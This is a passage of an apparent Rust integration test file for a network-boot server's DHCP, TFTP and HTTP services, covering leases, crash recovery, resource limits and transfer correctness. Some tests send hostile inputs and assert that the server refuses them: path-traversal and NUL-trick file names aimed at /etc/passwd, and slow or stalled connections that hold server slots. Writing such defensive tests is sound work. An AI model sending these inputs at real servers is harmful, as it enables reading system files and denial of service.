//! Protocol tier: the real `rackseed serve` in a network namespace against real DHCP,
//! TFTP and HTTP clients (udhcpc, dhclient, perfdhcp, atftp, curl).

use anyhow::Result;
use rackseed_tests::{Lab, LabConfig, Server, wait_for};
use serde_json::json;
use std::time::Duration;

/// Runs udhcpc once on a client's eth0 and returns the leased address.
pub(crate) fn udhcpc(ns: &rackseed_tests::Netns, request: Option<&str>) -> Result<String> {
    let req = request.map(|r| format!("-r {r}")).unwrap_or_default();
    let out = ns.sh(&format!(
        "udhcpc -f -q -n -t 5 -T 2 -i eth0 -s /bin/true {req} 2>&1"
    ))?;
    let ip = out
        .lines()
        .find_map(|l| l.split("lease of ").nth(1))
        .and_then(|r| r.split_whitespace().next())
        .ok_or_else(|| anyhow::anyhow!("udhcpc got no lease: {out}"))?;
    Ok(ip.to_string())
}

#[test]
fn udhcpc_and_dhclient_get_leases_that_survive_a_restart() -> Result<()> {
    let mut lab = Lab::new()?;
    let mut srv = Server::start(&lab, &LabConfig::lab())?;
    let a = lab.client("52:54:00:01:00:01", None)?.name.clone();
    let b = lab.client("52:54:00:01:00:02", None)?.name.clone();
    let ns = |n: &str| lab.clients.iter().find(|c| c.name == n).expect("client");

    let ip_a = udhcpc(ns(&a), None)?;
    assert!(ip_a.starts_with("192.0.2.1"), "{ip_a} outside the pool");

    // dhclient on the other client: full DORA, lease file kept for INIT-REBOOT.
    let lf = srv.dir.path().join("dhclient.leases");
    let dh = format!(
        "dhclient -1 -v -sf /bin/true -lf {} -pf {}/dh.pid eth0 2>&1",
        lf.display(),
        srv.dir.path().display()
    );
    let out = ns(&b).sh(&dh)?;
    let ip_b = out
        .lines()
        .find_map(|l| l.strip_prefix("bound to "))
        .and_then(|r| r.split_whitespace().next())
        .expect("dhclient bound")
        .to_string();
    assert_ne!(ip_a, ip_b);
    ns(&b).sh(&format!(
        "kill $(cat {}/dh.pid) || true",
        srv.dir.path().display()
    ))?;

    // The leases are durable: after a crash (SIGKILL right after the last ACK) each MAC
    // keeps its address and the addresses are not handed to anyone else. The lease
    // journal is replayed into the inventory at start.
    srv.crash_restart()?;
    let log = srv.log_text();
    assert!(
        log.contains("lease journal replayed into the inventory"),
        "no journal replay after the crash: {}",
        rackseed_tests::tail(&log, 20)
    );
    let leases = srv.api("/api/leases")?;
    let held: Vec<&str> = leases["leases"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|l| l["ip"].as_str())
        .collect();
    assert!(
        held.contains(&ip_a.as_str()) && held.contains(&ip_b.as_str()),
        "leases after restart: {leases}"
    );
    assert_eq!(
        udhcpc(ns(&a), Some(&ip_a))?,
        ip_a,
        "udhcpc lost its address across the restart"
    );
    let out = ns(&b).sh(&dh)?;
    assert!(
        out.contains(&format!("DHCPACK of {ip_b}")),
        "dhclient INIT-REBOOT after restart: {out}"
    );
    let c = lab.client("52:54:00:01:00:03", None)?.name.clone();
    let ip_c = udhcpc(lab.clients.iter().find(|x| x.name == c).unwrap(), None)?;
    assert!(
        ip_c != ip_a && ip_c != ip_b,
        "a new client got a leased address {ip_c}"
    );
    Ok(())
}

#[test]
fn requesting_someone_elses_address_gets_a_nak() -> Result<()> {
    let mut lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    let a = lab.client("52:54:00:02:00:01", None)?.name.clone();
    let b = lab.client("52:54:00:02:00:02", None)?.name.clone();
    let ip_a = udhcpc(lab.clients.iter().find(|x| x.name == a).unwrap(), None)?;
    // udhcpc -r asks for ip_a in its REQUEST: the server must NAK and hand out another.
    let ip_b = udhcpc(
        lab.clients.iter().find(|x| x.name == b).unwrap(),
        Some(&ip_a),
    )?;
    assert_ne!(ip_a, ip_b);
    let metrics = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    assert!(metrics.contains("rackseed_dhcp_sent_total"), "{metrics}");
    Ok(())
}

/// perfdhcp acts as a relay (giaddr = its own address): rackseed must answer the relay
/// and take the subnet from giaddr.
#[test]
fn perfdhcp_load_through_a_relay_has_no_drops() -> Result<()> {
    let mut lab = Lab::new()?;
    lab.srv
        .ip(&["addr", "add", "198.51.100.1/24", "dev", "br0"])?;
    let srv = Server::start(&lab, &LabConfig::lab().with("relay-subnet"))?;
    let relay = lab.client("52:54:00:03:00:01", Some("198.51.100.2/24"))?;
    // -W: after the 4 s, wait 2 s for the answers still under way (an ACK follows its
    // lease's commit); without it perfdhcp counts those as drops when the machine is
    // loaded (QEMU tests running beside this one).
    let out =
        relay.sh("perfdhcp -4 -l 198.51.100.2 -r 50 -R 200 -p 4 -W 2000000 -t 1 192.0.2.1 2>&1")?;
    let num = |key: &str| -> u64 {
        out.lines()
            .filter_map(|l| l.trim().strip_prefix(key))
            .filter_map(|r| {
                r.trim()
                    .trim_start_matches(':')
                    .split_whitespace()
                    .next()?
                    .parse::<u64>()
                    .ok()
            })
            .sum()
    };
    let (sent, received, drops) = (num("sent packets"), num("received packets"), num("drops"));
    assert!(sent >= 100, "perfdhcp sent too little: {out}");
    assert_eq!(drops, 0, "perfdhcp saw drops: {out}");
    assert_eq!(sent, received, "{out}");
    let leases = srv.api("/api/leases")?;
    let ips: Vec<&str> = leases["leases"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|l| l["ip"].as_str())
        .collect();
    assert!(!ips.is_empty());
    assert!(
        ips.iter().all(|ip| ip.starts_with("198.51.100.")),
        "leases outside the relay's subnet: {ips:?}"
    );
    Ok(())
}

/// `kill -9` in the middle of a perfdhcp load: after a restart every lease perfdhcp
/// was sent an ACK for is still in the lease table, and the inventory file is intact.
/// The ACKs are read off the relay's interface by a packet socket while perfdhcp runs.
#[test]
fn kill_9_during_perfdhcp_load_loses_no_acked_lease() -> Result<()> {
    let mut lab = Lab::new()?;
    lab.srv
        .ip(&["addr", "add", "198.51.100.1/24", "dev", "br0"])?;
    let mut srv = Server::start(&lab, &LabConfig::lab().with("relay-subnet"))?;
    let relay = lab.client("52:54:00:03:00:02", Some("198.51.100.2/24"))?;
    let acks = srv.dir.path().join("acks.txt");
    let sniff = format!(
        r#"
import socket, struct, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
s.bind(("eth0", 0))
s.settimeout(0.5)
out = open("{acks}", "w")
end = time.time() + 14
while time.time() < end:
    try:
        f = s.recv(2048)
    except socket.timeout:
        continue
    ip = f[14:]
    if len(ip) < 20 or ip[9] != 17:
        continue
    udp = ip[(ip[0] & 15) * 4:]
    if struct.unpack("!H", udp[2:4])[0] != 67 or struct.unpack("!H", udp[0:2])[0] != 67:
        continue
    b = udp[8:]
    if len(b) < 240 or b[0] != 2:
        continue
    i = 240
    kind = None
    while i + 1 < len(b) and b[i] != 255:
        if b[i] == 0:
            i += 1
            continue
        if b[i] == 53:
            kind = b[i + 2]
        i += 2 + b[i + 1]
    if kind == 5:
        out.write("%s %s\n" % (b[28:34].hex(), socket.inet_ntoa(b[16:20])))
        out.flush()
"#,
        acks = acks.display()
    );
    let script = srv.dir.path().join("sniff.py");
    std::fs::write(&script, sniff)?;
    let mut sniffer = relay
        .cmd("python3")
        .arg(&script)
        .stdout(std::process::Stdio::null())
        .spawn()?;
    std::thread::sleep(Duration::from_millis(500));
    let mut load = relay
        .cmd("perfdhcp")
        .args([
            "-4",
            "-l",
            "198.51.100.2",
            "-r",
            "100",
            "-R",
            "150",
            "-p",
            "6",
            "192.0.2.1",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()?;
    std::thread::sleep(Duration::from_millis(2500));
    srv.kill9();
    let _ = load.wait();
    let _ = sniffer.wait();
    srv.spawn()?;
    let acked: Vec<(String, String)> = std::fs::read_to_string(&acks)?
        .lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(m, ip)| (m.to_string(), ip.to_string()))
        .collect();
    assert!(
        acked.len() >= 20,
        "too few ACKs seen before the kill: {}",
        acked.len()
    );
    let leases = srv.api("/api/leases")?;
    let held: std::collections::HashSet<(String, String)> = leases["leases"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|l| {
            Some((
                l["mac"].as_str()?.replace(':', "").to_lowercase(),
                l["ip"].as_str()?.to_string(),
            ))
        })
        .collect();
    let lost: Vec<_> = acked.iter().filter(|a| !held.contains(*a)).collect();
    assert!(
        lost.is_empty(),
        "{} of {} ACKed leases lost after kill -9: {:?}",
        lost.len(),
        acked.len(),
        &lost[..lost.len().min(10)]
    );
    let db = srv.dir.path().join("data/inventory.db");
    let out = rackseed_tests::run(
        std::process::Command::new("sqlite3")
            .arg(&db)
            .arg("PRAGMA integrity_check;"),
    )?;
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ok");
    eprintln!(
        "kill -9: {} ACKed leases before the kill, all kept",
        acked.len()
    );
    Ok(())
}

/// The data directory's disk fills up under work: rackseed refuses new work with a
/// clear error (HTTP 507 naming the full disk, no DHCP answer it could not store),
/// keeps running and healthy, loses nothing it had acknowledged, and works again once
/// space is freed.
#[test]
fn a_full_disk_refuses_new_work_and_keeps_stored_data() -> Result<()> {
    let mut lab = Lab::new()?;
    let mut srv = Server::prepare(&lab, &LabConfig::lab())?;
    let data = srv.dir.path().join("data");
    std::fs::create_dir_all(&data)?;
    rackseed_tests::run(
        std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=6m", "tmpfs"])
            .arg(&data),
    )?;
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount")
                .arg("-l")
                .arg(&self.0)
                .status();
        }
    }
    let _unmount = Unmount(data.clone());
    srv.spawn()?;
    srv.add_node("52:54:00:0e:00:01", "full0", "lab-single-disk", &[])?;
    // Fill the disk, then keep adding nodes until rackseed refuses.
    let _ = std::process::Command::new("dd")
        .args(["if=/dev/zero", "bs=64k", "status=none"])
        .arg(format!("of={}", data.join("filler").display()))
        .status();
    let (mut added, mut refusal) = (vec!["full0".to_string()], None);
    for i in 1..400 {
        let host = format!("full{i}");
        let (code, v) = srv.api_post(
            "/api/nodes",
            &json!({"mac": format!("52:54:00:0e:{:02x}:{:02x}", i / 256, i % 256 + 1), "hostname": host, "profile": "lab-single-disk"}),
        )?;
        match code {
            200 | 201 => added.push(host),
            _ => {
                refusal = Some((code, v));
                break;
            }
        }
    }
    let (code, v) = refusal.expect("no refusal although the disk is full");
    assert_eq!(code, 507, "{v}");
    let msg = v["error"].as_str().unwrap_or_default();
    assert!(
        msg.contains("disk holding the data directory is full"),
        "{msg}"
    );
    // Still running and healthy. A DHCP lease is given only if it was stored (checked
    // below, once there is space again).
    assert_eq!(srv.curl(&["http://192.0.2.1:8080/healthz"])?.0, 200);
    let c = lab.client("52:54:00:0e:00:01", None)?;
    let (got, out) = c.try_sh("udhcpc -f -q -n -t 2 -T 1 -i eth0 -s /bin/true 2>&1");
    let leased_while_full = got
        .then(|| {
            out.split("lease of ")
                .nth(1)?
                .split_whitespace()
                .next()
                .map(str::to_string)
        })
        .flatten();
    // Space again: everything acknowledged is there, and work goes on.
    std::fs::remove_file(data.join("filler"))?;
    let listed = srv.api("/api/nodes")?;
    let names: Vec<&str> = listed["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|n| n["hostname"].as_str())
        .collect();
    for h in &added {
        assert!(
            names.contains(&h.as_str()),
            "{h} was acknowledged but is gone"
        );
    }
    let out = rackseed_tests::run(
        std::process::Command::new("sqlite3")
            .arg(data.join("inventory.db"))
            .arg("PRAGMA integrity_check;"),
    )?;
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ok");
    if let Some(ip) = leased_while_full {
        let leases = srv.api("/api/leases")?;
        assert!(
            leases["leases"]
                .as_array()
                .unwrap()
                .iter()
                .any(|l| l["ip"] == ip.as_str()),
            "{ip} was ACKed while the disk was full but is not stored: {leases}"
        );
    }
    srv.add_node("52:54:00:0e:ff:01", "after", "lab-single-disk", &[])?;
    assert!(udhcpc(c, None)?.starts_with("192.0.2."));
    srv.stop();
    Ok(())
}

/// A host that opens connections and never finishes a request, or opens more than the
/// cap, cannot hold the HTTP listener: past `server.max_connections` a connection is
/// closed at once (counted), one that has not sent its headers within
/// `server.header_timeout` is closed, and nodes are still served.
#[test]
fn http_closes_slow_and_excess_connections() -> Result<()> {
    let mut lab = Lab::new()?;
    let cfg = LabConfig::lab().with("http-tight-limits");
    let srv = Server::start(&lab, &cfg)?;
    let c = lab.client("52:54:00:0f:00:01", Some("192.0.2.57/24"))?;
    let probe = r#"
import socket, time
held = []
for i in range(4):
    s = socket.create_connection(("192.0.2.1", 8080))
    s.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    held.append(s)
time.sleep(0.3)
extra = socket.create_connection(("192.0.2.1", 8080))
extra.settimeout(2)
try:
    got = extra.recv(100)
    print("excess:", "closed" if got == b"" else "answered")
except socket.timeout:
    print("excess: held open")
except ConnectionResetError:
    print("excess: closed")
start = time.time()
for s in held:
    s.settimeout(6)
    try:
        r = s.recv(200)
        print("slow: %s after %.1fs" % ("closed" if r == b"" or b" 408 " in r else "answered", time.time() - start))
    except socket.timeout:
        print("slow: held open")
    except ConnectionResetError:
        print("slow: closed after %.1fs" % (time.time() - start))
"#;
    let out = c.sh(&format!("python3 -c '{}'", probe.replace('\'', "'\\''")))?;
    assert!(out.contains("excess: closed"), "{out}");
    assert_eq!(out.matches("slow: closed").count(), 4, "{out}");
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    assert!(
        m.lines().any(
            |l| l.starts_with("rackseed_http_connections_refused_total ") && !l.ends_with(" 0")
        ),
        "{m}"
    );
    // Served again once the slow ones are gone.
    let (code, _) = rackseed_tests::curl_in(&c.name, &["http://192.0.2.1:8080/healthz"])?;
    assert_eq!(code, 200);
    // A client that asks for the initrd and stops reading: the blocking `sendfile`
    // gives up after the idle timeout and the connection closes with the file unsent,
    // on every one of the four connection slots (a send thread left behind would hold
    // its slot, and the fifth request would find none).
    let size = std::fs::metadata(format!(
        "{}/initrd.gz",
        rackseed::config::PACKAGE_INSTALLER_DIR
    ))?
    .len();
    let stalled = r#"
import socket, time
held = []
for i in range(4):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("192.0.2.1", 8080))
    s.send(b"GET /installer/default/initrd.gz HTTP/1.1\r\nHost: x\r\n\r\n")
    held.append(s)
time.sleep(7)
for s in held:
    s.settimeout(10)
    got = 0
    try:
        while True:
            r = s.recv(1 << 20)
            if not r:
                break
            got += len(r)
        print("stalled: closed after %d bytes" % got)
    except ConnectionResetError:
        print("stalled: closed after %d bytes" % got)
    except socket.timeout:
        print("stalled: held open")
"#;
    let out = c.sh(&format!("python3 -c '{}'", stalled.replace('\'', "'\\''")))?;
    let sent: Vec<u64> = out
        .lines()
        .filter_map(|l| l.strip_prefix("stalled: closed after "))
        .filter_map(|l| l.strip_suffix(" bytes")?.parse().ok())
        .collect();
    assert_eq!(sent.len(), 4, "{out}");
    assert!(
        sent.iter().all(|&n| n > 0 && n < size),
        "{out} (file: {size} bytes)"
    );
    let (code, body) = rackseed_tests::curl_in(&c.name, &["http://192.0.2.1:8080/healthz"])?;
    assert_eq!(code, 200, "{}", String::from_utf8_lossy(&body));
    Ok(())
}

#[test]
fn ignore_policy_answers_known_machines_only() -> Result<()> {
    let mut lab = Lab::new()?;
    let cfg = LabConfig::lab().with("unknown-ignore");
    let srv = Server::start(&lab, &cfg)?;
    let unknown = lab.client("52:54:00:04:00:01", None)?;
    let (ok, out) = unknown.try_sh("udhcpc -f -q -n -t 2 -T 1 -i eth0 -s /bin/true 2>&1");
    assert!(!ok, "unknown MAC got a lease under `ignore`: {out}");
    srv.add_node("52:54:00:04:00:02", "known1", "lab-single-disk", &[])?;
    let known = lab.client("52:54:00:04:00:02", None)?;
    assert!(udhcpc(known, None)?.starts_with("192.0.2."));
    Ok(())
}

fn ipxe_bytes(name: &str) -> Vec<u8> {
    std::fs::read(format!("/usr/lib/ipxe/{name}"))
        .expect("Debian's ipxe package is installed by the README's set-up")
}

/// A client cannot make a TFTP session hold its slot for minutes (`timeout 255`) or a
/// whole file in flight (`windowsize 65535`), nor take every session from one address.
#[test]
fn tftp_clamps_hostile_options_and_caps_sessions_per_client() -> Result<()> {
    let mut lab = Lab::new()?;
    let _srv = Server::start(&lab, &LabConfig::lab().with("tftp-per-client-cap"))?;
    let c = lab.client("52:54:00:05:00:02", Some("192.0.2.51/24"))?;
    // Raw RRQs that ask for the largest options, each from its own port, never ACKed.
    let probe = r#"
import socket, struct, sys
socks = []
for i in range(5):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    rrq = b"\x00\x01undionly.kpxe\x00octet\x00timeout\x00255\x00blksize\x0065464\x00windowsize\x0065535\x00tsize\x000\x00"
    s.sendto(rrq, ("192.0.2.1", 69))
    socks.append(s)
for s in socks:
    try:
        data, _ = s.recvfrom(70000)
    except socket.timeout:
        print("timeout"); continue
    op = struct.unpack("!H", data[:2])[0]
    if op == 6:
        f = data[2:].split(b"\x00")
        print("OACK " + " ".join(x.decode() for x in f if x))
    elif op == 5:
        print("ERROR " + data[4:].rstrip(b"\x00").decode())
    else:
        print("OP %d" % op)
"#;
    let out = c.sh(&format!("python3 -c '{}'", probe.replace('\'', "'\\''")))?;
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 5, "{out}");
    let oacks: Vec<&&str> = lines.iter().filter(|l| l.starts_with("OACK")).collect();
    assert_eq!(oacks.len(), 3, "three sessions per client: {out}");
    for o in &oacks {
        assert!(o.contains("blksize 8192"), "{o}");
        assert!(o.contains("windowsize 32"), "{o}");
        assert!(!o.contains("timeout 255"), "client timeout granted: {o}");
    }
    assert_eq!(
        lines
            .iter()
            .filter(|l| **l == "ERROR too many transfers from this address, retry later")
            .count(),
        2,
        "{out}"
    );
    Ok(())
}

#[test]
fn atftp_and_curl_fetch_ipxe_binaries_byte_exact() -> Result<()> {
    let mut lab = Lab::new()?;
    let _srv = Server::start(&lab, &LabConfig::lab())?;
    let c = lab.client("52:54:00:05:00:01", Some("192.0.2.50/24"))?;
    let tmp = tempfile::tempdir()?;
    for name in ["undionly.kpxe", "ipxe.efi", "snponly.efi"] {
        for opts in [
            "--option 'blksize 1432'",
            "--option 'blksize 1432' --option 'windowsize 8'",
            "--option 'blksize 1468' --option 'windowsize 32' --option 'tsize 0'",
        ] {
            let dst = tmp.path().join(name);
            let _ = std::fs::remove_file(&dst);
            c.sh(&format!(
                "atftp -g -r {name} -l {} {opts} 192.0.2.1 2>&1",
                dst.display()
            ))?;
            assert!(
                std::fs::read(&dst)? == ipxe_bytes(name),
                "atftp {opts}: {name} differs"
            );
        }
        let dst = tmp.path().join(format!("{name}.curl"));
        c.sh(&format!(
            "curl -sf --tftp-blksize 1432 -o {} tftp://192.0.2.1/{name}",
            dst.display()
        ))?;
        assert!(
            std::fs::read(&dst)? == ipxe_bytes(name),
            "curl: {name} differs"
        );
    }
    // The installer files are in the tree too.
    let dst = tmp.path().join("linux");
    c.sh(&format!("atftp -g -r installer/linux -l {} --option 'blksize 1432' --option 'windowsize 8' 192.0.2.1", dst.display()))?;
    let kernel = std::fs::read(format!("{}/linux", rackseed::config::PACKAGE_INSTALLER_DIR))?;
    assert!(std::fs::read(&dst)? == kernel);
    Ok(())
}

/// The transfer follows RFC 7440 and RFC 1350 as a client sees it: an ACK inside a
/// window restarts the window after it, a duplicate ACK does not make the server send
/// again (the Sorcerer's Apprentice bug), a lost ACK is answered by a resend after the
/// timeout, block numbers roll over to 0 past 65535 (blksize 512 on the initrd), and a
/// client's ERROR ends the transfer.
#[test]
fn tftp_windows_follow_acks_and_block_numbers_roll_over() -> Result<()> {
    let mut lab = Lab::new()?;
    let _srv = Server::start(&lab, &LabConfig::lab())?;
    let c = lab.client("52:54:00:05:00:03", Some("192.0.2.54/24"))?;
    let probe = r#"
import socket, struct, time
def rrq(opts):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(8)
    p = b"\x00\x01undionly.kpxe\x00octet\x00"
    for k, v in opts:
        p += k.encode() + b"\x00" + v.encode() + b"\x00"
    s.sendto(p, ("192.0.2.1", 69))
    return s
def recv(s):
    d, a = s.recvfrom(70000)
    return struct.unpack("!HH", d[:4]), d[4:], a
def blocks(s, n):
    got = []
    for _ in range(n):
        (op, b), _, a = recv(s)
        got.append(b)
    return got, a
# Window 4: ACK 2 of 1..4, the next window starts at 3.
s = rrq([("blksize", "1432"), ("windowsize", "4")])
(op, _), _, a = recv(s)
print("oack", op)
s.sendto(struct.pack("!HH", 4, 0), a)
got, a = blocks(s, 4)
print("window", got)
s.sendto(struct.pack("!HH", 4, 2), a)
got, a = blocks(s, 4)
print("after ack 2", got)
s.sendto(struct.pack("!HH", 5, 0) + b"done\x00", a)
# Lockstep: a duplicate ACK sends nothing; a lost ACK is resent after the timeout.
s = rrq([("blksize", "1432")])
(op, _), _, a = recv(s)
s.sendto(struct.pack("!HH", 4, 0), a)
(op, b), _, a = recv(s)
s.sendto(struct.pack("!HH", 4, 1), a)
(op, b), _, a = recv(s)
s.sendto(struct.pack("!HH", 4, 1), a)
s.settimeout(0.5)
try:
    (op, b2), _, _ = recv(s)
    print("duplicate ack answered with block", b2)
except socket.timeout:
    print("duplicate ack ignored")
s.settimeout(8)
t = time.time()
(op, b3), _, _ = recv(s)
print("resent block %d after %.0fs" % (b3, time.time() - t + 0.5))
s.sendto(struct.pack("!HH", 5, 0) + b"done\x00", a)
"#;
    let out = c.sh(&format!("python3 -c '{}'", probe.replace('\'', "'\\''")))?;
    for want in [
        "oack 6",
        "window [1, 2, 3, 4]",
        "after ack 2 [3, 4, 5, 6]",
        "duplicate ack ignored",
    ] {
        assert!(out.lines().any(|l| l == want), "want {want:?} in:\n{out}");
    }
    assert!(
        out.lines().any(|l| l.starts_with("resent block 2 after")),
        "{out}"
    );
    // 80,000 blocks of 512 bytes: the block number rolls over and the file is whole.
    let tmp = tempfile::tempdir()?;
    let dst = tmp.path().join("initrd.gz");
    c.sh(&format!(
        "atftp -g -r installer/initrd.gz -l {} --option 'blksize 512' --option 'windowsize 32' 192.0.2.1 2>&1",
        dst.display()
    ))?;
    let initrd = std::fs::read(format!(
        "{}/initrd.gz",
        rackseed::config::PACKAGE_INSTALLER_DIR
    ))?;
    assert!(
        initrd.len() > 512 * 65536,
        "the initrd is large enough to roll over"
    );
    assert!(
        std::fs::read(&dst)? == initrd,
        "initrd over blksize 512 differs"
    );
    Ok(())
}

#[test]
fn hostile_tftp_names_and_writes_are_refused() -> Result<()> {
    let mut lab = Lab::new()?;
    let extra_dir = tempfile::tempdir()?;
    std::fs::write(extra_dir.path().join("ok.txt"), "inside the tree\n")?;
    std::os::unix::fs::symlink("/etc/passwd", extra_dir.path().join("evil"))?;
    std::os::unix::fs::symlink("/etc", extra_dir.path().join("etc"))?;
    let cfg = LabConfig::lab().set("tftp.extra_dir", extra_dir.path().display().to_string());
    let _srv = Server::start(&lab, &cfg)?;
    let c = lab.client("52:54:00:06:00:01", Some("192.0.2.51/24"))?;
    let tmp = tempfile::tempdir()?;
    let get = |name: &str| {
        c.try_sh(&format!(
            "atftp -g -r '{name}' -l {}/out 192.0.2.1 2>&1",
            tmp.path().display()
        ))
    };
    let (ok, out) = get("ok.txt");
    assert!(ok, "{out}");
    assert_eq!(
        std::fs::read_to_string(tmp.path().join("out"))?,
        "inside the tree\n"
    );
    for (name, why) in [
        ("../../etc/passwd", "`.` and `..`"),
        ("/etc/passwd", "absolute paths"),
        ("..\\x", "backslashes"),
        ("evil", "outside the tree"),
        ("etc/passwd", "outside the tree"),
        ("installer/../../../etc/passwd", "`.` and `..`"),
    ] {
        let (ok, out) = get(name);
        assert!(!ok, "{name} was served: {out}");
        assert!(out.contains(why), "{name}: expected `{why}` in: {out}");
    }
    let (ok, out) = get("no-such-file");
    assert!(!ok && out.to_lowercase().contains("not found"), "{out}");
    // NUL tricks: whatever follows the first NUL is not part of the name. Each probe
    // gets an ERROR or no answer at all, never DATA.
    let probe = "import socket\nfor p in [b'\\x00\\x01undionly.kpxe\\x00/../../etc/passwd\\x00octet\\x00', b'\\x00\\x01../../etc/passwd\\x00.kpxe\\x00octet\\x00', b'\\x00\\x01ok.txt\\x00\\x00../evil\\x00octet\\x00', b'\\x00\\x01evil\\x00octet\\x00']:\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n    s.settimeout(2)\n    s.sendto(p,('192.0.2.1',69))\n    try:\n        d,a=s.recvfrom(2000)\n        print(d[:2].hex())\n    except socket.timeout:\n        print('none')\n";
    let replies = c.cmd("python3").arg("-c").arg(probe).output()?;
    let replies = String::from_utf8_lossy(&replies.stdout).to_string();
    assert_eq!(replies.lines().count(), 4, "{replies}");
    assert!(
        replies.lines().all(|l| l == "0005" || l == "none"),
        "a NUL trick got data: {replies}"
    );
    // Write requests are refused.
    std::fs::write(tmp.path().join("up"), "x")?;
    let (ok, out) = c.try_sh(&format!(
        "atftp -p -l {}/up -r up.txt 192.0.2.1 2>&1",
        tmp.path().display()
    ));
    assert!(!ok, "write accepted: {out}");
    Ok(())
}

#[test]
fn tftp_session_cap_refuses_past_the_limit() -> Result<()> {
    let mut lab = Lab::new()?;
    let _srv = Server::start(&lab, &LabConfig::lab().with("tftp-single-session"))?;
    let c = lab.client("52:54:00:07:00:01", Some("192.0.2.52/24"))?;
    // A client that asks and never acknowledges holds the only session.
    let script = "import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.sendto(b'\\x00\\x01installer/initrd.gz\\x00octet\\x00',('192.0.2.1',69))\ns.settimeout(5)\nd,a=s.recvfrom(2000)\nprint('held', d[:2].hex(), flush=True)\ntime.sleep(12)\n";
    let mut holder = c
        .cmd("python3")
        .arg("-c")
        .arg(script)
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    std::thread::sleep(Duration::from_millis(800));
    let tmp = tempfile::tempdir()?;
    let (ok, out) = c.try_sh(&format!(
        "atftp -g -r undionly.kpxe -l {}/u 192.0.2.1 2>&1",
        tmp.path().display()
    ));
    assert!(
        !ok && out.contains("server busy"),
        "second session was not refused: {out}"
    );
    let _ = holder.kill();
    let _ = holder.wait();
    // Once the held session times out, transfers work again.
    wait_for(
        "the session slot to free",
        Duration::from_secs(60),
        Duration::from_secs(2),
        || {
            c.try_sh(&format!(
                "atftp -g -r undionly.kpxe -l {}/u 192.0.2.1 2>&1",
                tmp.path().display()
            ))
            .0
            .then_some(())
        },
    )?;
    Ok(())
}

#[test]
fn curl_gets_installer_files_with_range_and_head() -> Result<()> {
    let mut lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    let c = lab.client("52:54:00:08:00:01", Some("192.0.2.53/24"))?;
    let dir = rackseed::config::PACKAGE_INSTALLER_DIR;
    for file in ["linux", "initrd.gz"] {
        let whole = std::fs::read(format!("{dir}/{file}"))?;
        let url = format!("http://192.0.2.1:8080/installer/default/{file}");
        let head = c.sh(&format!("curl -sfI {url}"))?;
        assert!(
            head.to_lowercase()
                .contains(&format!("content-length: {}", whole.len())),
            "{head}"
        );
        assert!(
            head.to_lowercase().contains("accept-ranges: bytes"),
            "{head}"
        );
        let tmp = tempfile::tempdir()?;
        let part = tmp.path().join("part");
        let code = c.sh(&format!(
            "curl -s -o {} -w '%{{http_code}}' -r 1000-4999 {url}",
            part.display()
        ))?;
        assert_eq!(code, "206");
        assert_eq!(std::fs::read(&part)?, whole[1000..5000]);
        let code = c.sh(&format!(
            "curl -s -o {} -w '%{{http_code}}' -r {}- {url}",
            part.display(),
            whole.len() - 100
        ))?;
        assert_eq!(code, "206");
        assert_eq!(std::fs::read(&part)?, whole[whole.len() - 100..]);
        let full = tmp.path().join("full");
        c.sh(&format!("curl -sf -o {} {url}", full.display()))?;
        assert!(std::fs::read(&full)? == whole);
        let code = c.sh(&format!(
            "curl -s -o /dev/null -w '%{{http_code}}' -r {}- {url}",
            whole.len() + 10
        ))?;
        assert_eq!(code, "416");
    }
    // One keep-alive connection mixing what nodes send: routed requests, whole files
    // (sent with sendfile), a POST whose body the handler does not read, two requests
    // pipelined in one segment, HTTP/1.0; every response whole and in order.
    let linux = std::fs::read(format!("{dir}/linux"))?;
    let probe = r#"
import socket, hashlib, sys
s = socket.create_connection(("192.0.2.1", 8080))
s.settimeout(20)
f = s.makefile("rb")
def response():
    status = f.readline().decode()
    headers = {}
    while True:
        line = f.readline().decode().strip()
        if not line:
            break
        k, v = line.split(":", 1)
        headers[k.strip().lower()] = v.strip()
    body = f.read(int(headers.get("content-length", "0")))
    return status.split()[1], headers, body
def get(path, extra=""):
    s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n" % (path, extra)).encode())
out = []
get("/healthz"); c, h, b = response(); out.append("healthz %s %s" % (c, b"services" in b))
get("/installer/default/linux?mac=52-54-00-08-00-01"); c, h, b = response()
out.append("linux %s %s %d" % (c, hashlib.sha256(b).hexdigest(), len(b)))
s.sendall(b"POST /install/nope/events/late_command HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello")
c, h, b = response(); out.append("post %s" % c)
s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\nGET /installer/default/linux HTTP/1.1\r\nHost: x\r\n\r\n")
c1, _, _ = response(); c2, _, b = response()
out.append("pipelined %s %s %s" % (c1, c2, hashlib.sha256(b).hexdigest()))
get("/installer/default/linux", "Range: bytes=0-9\r\n"); c, h, b = response(); out.append("range %s %d" % (c, len(b)))
get("/installer/default/nope"); c, h, b = response(); out.append("missing %s" % c)
